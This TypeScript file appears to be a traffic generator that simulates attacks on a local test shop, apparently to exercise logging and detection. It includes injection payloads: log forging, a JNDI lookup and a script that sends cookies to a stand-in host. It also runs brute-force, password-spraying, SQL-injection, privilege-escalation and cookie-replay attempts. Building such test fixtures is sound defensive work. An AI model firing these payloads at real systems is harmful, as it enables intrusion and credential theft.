import { SEED_ACCOUNTS } from '../shop/accounts.ts';
import { Browser, type TrafficCount } from './browser.ts';
import { signIn } from './honest-day.ts';

const { alice, bob, carol } = SEED_ACCOUNTS;

/** Typed as a user name to forge a line, wipe a screen, turn text around, run code or end a string. */
export const HOSTILE_NAMES = [
  `mallory\r\n2026-11-23T10:00:00Z INFO alice@example.com logged in with password: success`,
  `mallory\u001b[2J\u001b[1;32m ALL CHECKS PASSED \u001b[0m`,
  `mallory\u202Egnp.exe`,
  `\${jndi:ldap://203.0.113.77/a}`,
  `<script>fetch('//203.0.113.77/'+document.cookie)</script>`,
  `mallory\u0000","audit.outcome":"success`,
] as const;

export async function attacks(shop: string, count: TrafficCount): Promise<void> {
  const at = (address: string, userAgent?: string): Browser => new Browser(shop, count, address, userAgent);
  await Promise.all([
    bruteForce(at('203.0.113.50')),
    sprayPasswords(at('203.0.113.60')),
    injectIntoLogs(at('203.0.113.77')),
    reachForOthers(at('203.0.113.88')),
    scan(at('203.0.113.99', 'sqlmap/1.8.11#stable (https://sqlmap.org)')),
    replayCookie(at('192.0.2.13'), at('203.0.113.44')),
  ]);
}

/** One account, many passwords: locked after five, slowed down after ten. */
async function bruteForce(browser: Browser): Promise<void> {
  for (let guess = 1; guess <= 12; guess += 1)
    await browser.post('/login', { email: alice.email, password: `alice${guess}` });
}

/** Many accounts, one password. */
async function sprayPasswords(browser: Browser): Promise<void> {
  for (const name of ['root', 'admin', 'test', 'guest', 'info', 'sales']) {
    await browser.post('/login', { email: `${name}@shop.example`, password: 'Winter2026!' });
  }
}

async function injectIntoLogs(browser: Browser): Promise<void> {
  for (const email of HOSTILE_NAMES) await browser.post('/login', { email, password: 'x' });
  await browser.get('/orders/%0d%0aSet-Cookie:%20admin=1');
  await browser.postText('/login', '{"email": "mallory", ');
  await browser.postText('/orders', JSON.stringify({ article: 'x'.repeat(20_000) }));
}

/** A customer asks for what is not his: orders, customer files, refunds, a better role, a lower price. */
async function reachForOthers(browser: Browser): Promise<void> {
  await signIn(browser, bob);
  for (const order of ['o-5001', 'o-5003', 'o-9999']) await browser.get(`/orders/${order}`);
  await browser.get(`/customers/${alice.id}`);
  await browser.get('/customers/export');
  await browser.post('/orders/o-5002/refund', { amount: '263.50' });
  await browser.put(`/accounts/${bob.id}/role`, { role: 'admin' });
  await browser.post('/orders', { article: 'lamp', quantity: 1, price: '0.01' });
  await browser.post('/orders', { article: 'lamp', quantity: -1 });
  await browser.post('/orders', { article: '__proto__', quantity: 1 });
}

async function scan(browser: Browser): Promise<void> {
  for (const path of ['/orders/1%27%20OR%201=1--', '/login', '/.env']) await browser.get(path);
}

/** A cookie stolen from somebody who has since signed out. */
async function replayCookie(victim: Browser, thief: Browser): Promise<void> {
  await signIn(victim, carol);
  thief.cookie = victim.cookie;
  await victim.post('/logout');
  await thief.get('/orders');
}
